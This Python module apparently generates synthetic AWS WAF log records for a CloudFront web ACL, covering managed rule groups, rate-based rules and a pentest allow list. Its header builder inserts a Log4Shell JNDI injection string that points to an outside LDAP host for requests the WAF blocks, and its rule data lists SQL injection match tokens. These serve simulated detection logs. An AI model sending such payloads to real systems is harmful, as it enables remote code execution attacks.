"""The web ACL: rule catalogue, the time-ordered pass that applies the allow list and rate rules,
and rendering of AWS WAF log records."""
import json
from collections import deque

ACCOUNT = "418272790143"
WEBACL = "arn:aws:wafv2:us-east-1:%s:global/webacl/pathways-prod-cf/5b2d9e41-7c3a-4f08-9e1d-2a6c8b7f0e93" % ACCOUNT
DIST_ID = "E2QW7XK4VF8M1A"
BADBOTS = "arn:aws:wafv2:us-east-1:%s:global/rulegroup/pathways-bad-bots/0c8e5a37-19d4-4b6f-8a2e-6f3d1b9c7e20" % ACCOUNT
GROUPS = [("AWS-AWSManagedRulesAmazonIpReputationList", "AWS#AWSManagedRulesAmazonIpReputationList"),
          ("AWS-AWSManagedRulesAnonymousIpList", "AWS#AWSManagedRulesAnonymousIpList"),
          ("AWS-AWSManagedRulesCommonRuleSet", "AWS#AWSManagedRulesCommonRuleSet"),
          ("AWS-AWSManagedRulesKnownBadInputsRuleSet", "AWS#AWSManagedRulesKnownBadInputsRuleSet"),
          ("AWS-AWSManagedRulesSQLiRuleSet", "AWS#AWSManagedRulesSQLiRuleSet"),
          ("pathways-bad-bots", BADBOTS)]
# waf code -> (group index, rule id inside the group, label, match details)
MANAGED = {
    "iprep": (0, "AWSManagedIPReputationList", "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList", []),
    "noua": (2, "NoUserAgent_HEADER", "awswaf:managed:aws:core-rule-set:NoUserAgent_Header", []),
    "restricted_ext": (2, "RestrictedExtensions_URIPATH", "awswaf:managed:aws:core-rule-set:RestrictedExtensions_URIPath", []),
    "lfi": (2, "GenericLFI_URIPATH", "awswaf:managed:aws:core-rule-set:GenericLFI_URIPath", []),
    "log4j": (3, "Log4JRCE_HEADER", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header", []),
    "sqli": (4, "SQLi_QUERYARGUMENTS", "awswaf:managed:aws:sql-database:SQLi_QueryArguments",
             [{"conditionType": "SQL_INJECTION", "sensitivityLevel": "LOW", "location": "QUERY_STRING",
               "matchedData": ["OR", "1=1"]}]),
    "badbot": (5, "block-scanner-user-agents", "pathways:bad-bots:scanner-ua", []),
}
RATE = {"rate-limit-login": ("2c7d4e1a-5b6f-4a3c-9d8e-1f2a3b4c5d6e", 100),
        "rate-limit-ip": ("8e1f2a3b-4c5d-4e6f-a7b8-c9d0e1f2a3b4", 2000)}
STATIC = ("/assets/", "/favicon.ico", "/robots.txt", "/health")
HOSTING_LABEL = "awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList"


def apply_rules(events, w):
    """Time-ordered pass: the pentest allow list, then the two rate-based rules (5-minute windows per address)."""
    pt = getattr(w, "pentest", None)
    win = {}
    for ev in events:
        if pt and ev.ip == pt["ip"] and ev.t >= pt["allow_from"]:
            ev.waf = "allow_pentest"
            continue
        for name, scope in (("rate-limit-login", ev.path.startswith("/login") or ev.path.startswith("/oauth2")),
                            ("rate-limit-ip", True)):
            if not scope:
                continue
            dq = win.setdefault((name, ev.ip), deque())
            dq.append(ev.t)
            while dq[0] < ev.t - 300:
                dq.popleft()
            if len(dq) > RATE[name][1] and not (ev.waf or "").startswith("rate"):
                ev.waf = name
                ev.status, ev.size, ev.ctype = 403, 919, "text/html"


def headers(ev, host):
    dev = ev.dev
    h2 = dev.proto == "HTTP/2.0"
    out = []

    def add(name, value):
        if value is not None:
            out.append({"name": name if h2 else "-".join(p.capitalize() for p in name.split("-")), "value": value})
    add("host", host)
    x = ev.extra or {}
    if not x.get("no_ua"):
        add("user-agent", dev.ua)
    if ev.path.startswith("/api/") or ev.path.startswith("/oauth2/token"):
        acc = "application/json, text/plain, */*"
    elif ev.ctype == "text/html" or ev.path in ("/", "/index.html"):
        acc = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    else:
        acc = "*/*"
    add("accept", acc)
    if ev.method in ("POST", "PUT", "DELETE", "PATCH") and dev.kind == "browser":
        add("origin", x.get("origin", "https://" + host))
    elif "origin" in x:
        add("origin", x["origin"])
    if ev.body:
        add("content-type", "application/x-www-form-urlencoded" if ev.path in ("/login", "/oauth2/token")
            else "application/json")
    if dev.kind == "browser":
        add("sec-fetch-site", x.get("sec-fetch-site", "same-origin" if ev.ref else "none"))
    add("referer", ev.ref)
    add("accept-language", dev.lang)
    add("cookie", ev.cookie)
    if ev.auth:
        add("authorization", "Bearer " + ev.auth)
    if x.get("xff"):
        add("x-forwarded-for", x["xff"])
    if ev.waf == "log4j":
        add("x-api-version", "${jndi:ldap://185.220.101.47:1389/a}")
    return out


def record(ev, w, host):
    """One AWS WAF log record (dict) for the event."""
    code = ev.waf
    country = w.nets.country.get(ev.ip, "US")
    hosting = w.nets.hosting.get(ev.ip, False)
    r = {"timestamp": int(ev.t * 1000), "formatVersion": 1, "webaclId": WEBACL, "terminatingRuleId": "Default_Action",
         "terminatingRuleType": "REGULAR", "action": "ALLOW", "terminatingRuleMatchDetails": [], "httpSourceName": "CF",
         "httpSourceId": DIST_ID, "ruleGroupList": [], "rateBasedRuleList": [], "nonTerminatingMatchingRules": [],
         "requestHeadersInserted": None, "responseCodeSent": None}
    labels = []
    if code == "allow_pentest":
        r["terminatingRuleId"] = "allow-pentest-ipset"
    elif code and code.startswith("rate"):
        rid, limit = RATE[code]
        r.update(terminatingRuleId=code, terminatingRuleType="RATE_BASED", action="BLOCK")
        r["rateBasedRuleList"] = [{"rateBasedRuleId": rid, "rateBasedRuleName": code, "limitKey": "IP",
                                   "maxRateAllowed": limit, "evaluationWindowSec": "300", "customValues": []}]
    else:
        if country != "US":
            r["nonTerminatingMatchingRules"] = [{"ruleId": "count-non-us", "action": "COUNT", "ruleMatchDetails": []}]
        stop = MANAGED[code][0] if code else len(GROUPS) - 1
        static = ev.path.startswith(STATIC)
        for i, (name, gid) in enumerate(GROUPS[:stop + 1]):
            if static and 2 <= i <= 4:   # scope-down: static files and /health skip the request-inspection groups
                continue
            g = {"ruleGroupId": gid, "terminatingRule": None, "nonTerminatingMatchingRules": [], "excludedRules": None,
                 "customerConfig": None}
            if i == 1 and hosting:
                g["nonTerminatingMatchingRules"] = [{"ruleId": "HostingProviderIPList", "action": "COUNT",
                                                     "overriddenAction": "BLOCK", "ruleMatchDetails": []}]
                labels.append(HOSTING_LABEL)
            if code and i == stop:
                g["terminatingRule"] = {"ruleId": MANAGED[code][1], "action": "BLOCK", "ruleMatchDetails": None}
                r.update(terminatingRuleId=name, terminatingRuleType="MANAGED_RULE_GROUP" if i < 5 else "RULE_GROUP",
                         action="BLOCK", terminatingRuleMatchDetails=MANAGED[code][3])
                labels.append(MANAGED[code][2])
            r["ruleGroupList"].append(g)
    r["httpRequest"] = {"clientIp": ev.ip, "country": country, "headers": headers(ev, host), "uri": ev.path,
                        "args": ev.query, "httpVersion": ev.dev.proto, "httpMethod": ev.method, "requestId": ev.rid}
    if labels:
        r["labels"] = [{"name": n} for n in labels]
    return r


def line(ev, w, host):
    return json.dumps(record(ev, w, host), separators=(",", ":"))
